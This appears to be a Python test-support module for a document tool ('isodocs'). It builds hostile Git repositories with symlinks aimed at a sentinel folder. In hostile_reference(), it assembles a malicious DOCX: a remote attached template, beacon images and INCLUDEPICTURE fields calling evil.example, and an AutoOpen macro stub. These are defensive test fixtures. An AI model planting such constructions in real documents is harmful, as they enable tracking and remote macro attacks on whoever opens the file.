"""Hostile repositories (tests/hostile), each built in a temporary folder beside a sentinel folder it
must not touch.

`world(tmp_path)` copies one template: a Git repository holding the standard manual, every
document approved on 2025-07-20, then an amendment of 123/2015/NĐ-CP committed after it (so
QT-HT-01 is suspect and `legal ack` has something to acknowledge), checked out clean. Beside it
lies `outside/`, the sentinel: links a hostile repository commits point there, and after any
command it must hold exactly what it held. A clean official build of the template is made once,
so a test can prove a hostile repository's outputs are byte-identical to it.
"""

from __future__ import annotations

import io
import os
import shutil
import stat
import zipfile
from dataclasses import dataclass
from pathlib import Path
from unittest import mock

import pygit2
from click.testing import CliRunner, Result

from isodocs.system import resources

from support.cli import invoke
from support.git import Symlink, checkout, git_commit, git_init
from support.manual import LEGAL, LEGAL_PATH, standard_bytes

TODAY = "2025-12-01"
APPROVED = "2025-07-20"
AMENDMENT = """\
- number: 07/2025/NĐ-CP
  type: Nghị định
  title: Sửa đổi, bổ sung Nghị định 123/2015/NĐ-CP
  issued: 2025-09-01
  status: in_force
"""


def tree_files(repo: pygit2.Repository) -> dict[str, bytes]:
    """Every file of HEAD's tree (links as their target's text)."""
    found: dict[str, bytes] = {}

    def walk(tree, prefix):
        for entry in tree:
            path = f"{prefix}{entry.name}"
            if entry.type == pygit2.enums.ObjectType.TREE:
                walk(repo[entry.id], path + "/")
            elif entry.type == pygit2.enums.ObjectType.BLOB:
                found[path] = repo[entry.id].data
    walk(repo.head.peel(pygit2.Commit).tree, "")
    return found


def snapshot(folder: Path) -> dict[str, tuple]:
    """Every entry under `folder`, links not followed: kind, bytes or link target, mode."""
    found = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in [*dirnames, *filenames]:
            path = Path(dirpath) / name
            st = os.lstat(path)
            if stat.S_ISLNK(st.st_mode):
                found[str(path.relative_to(folder))] = ("link", os.readlink(path))
            elif stat.S_ISREG(st.st_mode):
                found[str(path.relative_to(folder))] = ("file", path.read_bytes(), stat.S_IMODE(st.st_mode))
            else:
                found[str(path.relative_to(folder))] = ("other", stat.S_IFMT(st.st_mode))
    return found


def _make_template(base: Path) -> None:
    repo = git_init(base / "repo")
    git_commit(repo, standard_bytes(), "Sổ tay ban đầu", when=1_751_000_000)
    checkout(repo)
    approved = invoke(["approve", "--all", "--by", "minh.lv", "--date", APPROVED, "--lang", "en"], cwd=base / "repo")
    assert approved.exit_code == 0, approved.output
    # the approval commit is dated by the clock: the template is made once, so every copy agrees
    files = tree_files(repo)
    files[LEGAL_PATH] = (LEGAL.replace("- number: 123/2015/NĐ-CP\n", "- number: 123/2015/NĐ-CP\n  amended_by: [07/2025/NĐ-CP]\n")
                         + AMENDMENT).encode("utf-8")
    git_commit(repo, files, "Nghị định 07/2025 sửa đổi 123/2015", when=1_760_000_000)
    checkout(repo)
    outside = base / "outside"
    (outside / "deep").mkdir(parents=True)
    (outside / "secret.txt").write_text("not for isodocs\n")
    (outside / "deep" / "QT-HT-01.docx").write_bytes(b"someone else's file")
    (outside / "manual.docx").write_bytes(b"someone else's manual")
    built = invoke(["build", "--today", TODAY, "-o", str(base / "clean-build"), "--lang", "en"], cwd=base / "repo")
    assert built.exit_code == 0, built.output


_TEMPLATE: dict[str, Path] = {}


@dataclass
class World:
    """A hostile repository's temporary folder: the checkout, the sentinel beside it, and the
    clean build to compare outputs with."""

    tmp: Path

    @property
    def root(self) -> Path:
        return self.tmp / "repo"

    @property
    def outside(self) -> Path:
        return self.tmp / "outside"

    @property
    def repo(self) -> pygit2.Repository:
        return pygit2.Repository(str(self.root))

    def clean_build(self) -> dict[str, bytes]:
        return outputs(_TEMPLATE["base"] / "clean-build")

    def reference(self, *args: str) -> dict[str, bytes]:
        """The outputs of `build ARGS` of the repository as it is now, caches off: what a hostile
        repository's build must equal, byte for byte."""
        folder = self.tmp / f"reference-{len(list(self.tmp.glob('reference-*')))}"
        said_cleanly(self.run("build", "--today", TODAY, *args, "-o", str(folder), env={"ISODOCS_CACHE": "0"}), 0)
        return outputs(folder)

    def commit(self, files: dict[str, bytes | str | None], message: str = "Thay đổi", links: dict[str, str] = {}) -> None:
        """Commit HEAD's files changed by `files` (None removes one) and symbolic `links`
        (path -> target), then check it out (links included) as a clone would."""
        repo = self.repo
        tree = {**tree_files(repo), **files, **{path: Symlink(target) for path, target in links.items()}}
        git_commit(repo, {p: v for p, v in tree.items() if v is not None}, message, when=1_761_000_000)
        checkout(repo)

    def run(self, *args: str, lang: str = "en", env: dict[str, str] | None = None) -> Result:
        """The command line in-process, in the checkout, the way a CI job runs it."""
        from isodocs.cli import main

        old = os.getcwd()
        os.chdir(self.root)
        try:
            return CliRunner().invoke(main, [*args, "--lang", lang], env=env, catch_exceptions=True)
        finally:
            os.chdir(old)


def world(tmp_path: Path, tmp_path_factory) -> World:
    if "base" not in _TEMPLATE:
        base = tmp_path_factory.mktemp("hostile-template")
        with mock.patch.dict(os.environ, {"ISODOCS_CACHE": "0"}):  # no cache comes with the template
            _make_template(base)
        _TEMPLATE["base"] = base
    shutil.copytree(_TEMPLATE["base"] / "repo", tmp_path / "repo", symlinks=True)
    shutil.copytree(_TEMPLATE["base"] / "outside", tmp_path / "outside", symlinks=True)
    return World(tmp_path)


def watched(tmp_path: Path, tmp_path_factory):
    """A hostile repository's world for one test, its sentinel checked untouched afterwards
    (whatever the test asserted itself): the body of each module's `w` fixture."""
    w = world(tmp_path, tmp_path_factory)
    before = snapshot(w.outside)
    yield w
    assert snapshot(w.outside) == before, "something was written outside the repository"


def outputs(folder: Path) -> dict[str, bytes]:
    """The DOCX files of a build folder."""
    return {p.name: p.read_bytes() for p in sorted(folder.glob("*.docx")) if not p.is_symlink() and p.is_file()}


def said_cleanly(result: Result, code: int) -> str:
    """The command's output, after checking it stopped as designed: the exit code, and no
    internal error (which exits 2 too, so the text decides)."""
    assert result.exit_code == code, result.output
    assert "internal error" not in result.output and "lỗi nội bộ" not in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result.output


# --- reference.docx: the manual's own, clean and hostile ------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EVIL = "http://evil.example"


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {info.filename: package.read(info) for info in package.infolist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def clean_reference() -> dict[str, bytes]:
    """The built-in reference with styles and a page of the manual's own: Arial, a 25 mm margin."""
    parts = parts_of(resources.read_bytes("templates", "reference.docx"))
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(b'w:ascii="Times New Roman"', b'w:ascii="Arial"', 1)
    parts["word/document.xml"] = parts["word/document.xml"].replace(b'w:left="1701"', b'w:left="1417"')
    return parts


def add(parts: dict[str, bytes], name: str, text: str) -> None:
    closing = b"</Relationships>" if name.endswith(".rels") else b"</Types>"
    parts[name] = parts.get(name, b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                                  b'package/2006/relationships"></Relationships>').replace(closing, text.encode() + closing)


def hostile_reference() -> dict[str, bytes]:
    """The same, carrying what Word would act on: a remote attached template, an external image,
    INCLUDEPICTURE fields, a macro part, a comment, a header, picture bullets, an embedded font."""
    parts = clean_reference()
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:defaultTabStop", f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdT"/><w:defaultTabStop'.encode())
    add(parts, "word/_rels/settings.xml.rels",
        f'<Relationship Id="rIdT" Type="{REL}attachedTemplate" Target="{EVIL}/t.dotm" TargetMode="External"/>')
    add(parts, "word/_rels/document.xml.rels",
        f'<Relationship Id="rIdImg" Type="{REL}image" Target="{EVIL}/beacon.png" TargetMode="External"/>'
        f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        f'Target="vbaProject.bin"/><Relationship Id="rIdHdr" Type="{REL}header" Target="header9.xml"/>'
        f'<Relationship Id="rIdCmt" Type="{REL}comments" Target="comments.xml"/>'
        f'<Relationship Id="rIdFont" Type="{REL}font" Target="fonts/font1.odttf"/>')
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 AutoOpen Shell(calc.exe)"
    parts["word/fonts/font1.odttf"] = b"font"
    field = f'<w:fldSimple w:instr=\'INCLUDEPICTURE "{EVIL}/field.png" \\d\'><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    parts["word/header9.xml"] = f'<w:hdr xmlns:w="{W}"><w:p>{field}</w:p></w:hdr>'.encode()
    parts["word/comments.xml"] = f'<w:comments xmlns:w="{W}"><w:comment w:id="0"><w:p/></w:comment></w:comments>'.encode()
    add(parts, "[Content_Types].xml", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/header9.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.header+xml"/>')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.document.main+xml")  # a .docx still, by name
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body><w:p/>", f'<w:body><w:p>{field}<w:r><w:drawing><a:blip xmlns:a="x" xmlns:r="{R}" '
                           f'r:link="rIdImg"/></w:drawing></w:r></w:p>'.encode()).replace(
        b"<w:sectPr>", f'<w:sectPr><w:headerReference xmlns:r="{R}" w:type="default" r:id="rIdHdr"/>'.encode())
    parts["word/numbering.xml"] = (
        f'<w:numbering xmlns:w="{W}" xmlns:r="{R}"><w:numPicBullet w:numPicBulletId="0"><w:pict>'
        f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rIdImg"/></w:pict></w:numPicBullet>'
        f'</w:numbering>').encode()
    parts["word/fontTable.xml"] = parts["word/fontTable.xml"].replace(
        b'<w:pitch w:val="variable"/></w:font>',
        f'<w:pitch w:val="variable"/><w:embedRegular xmlns:r="{R}" r:id="rIdFont"/></w:font>'.encode(), 1)
    return parts
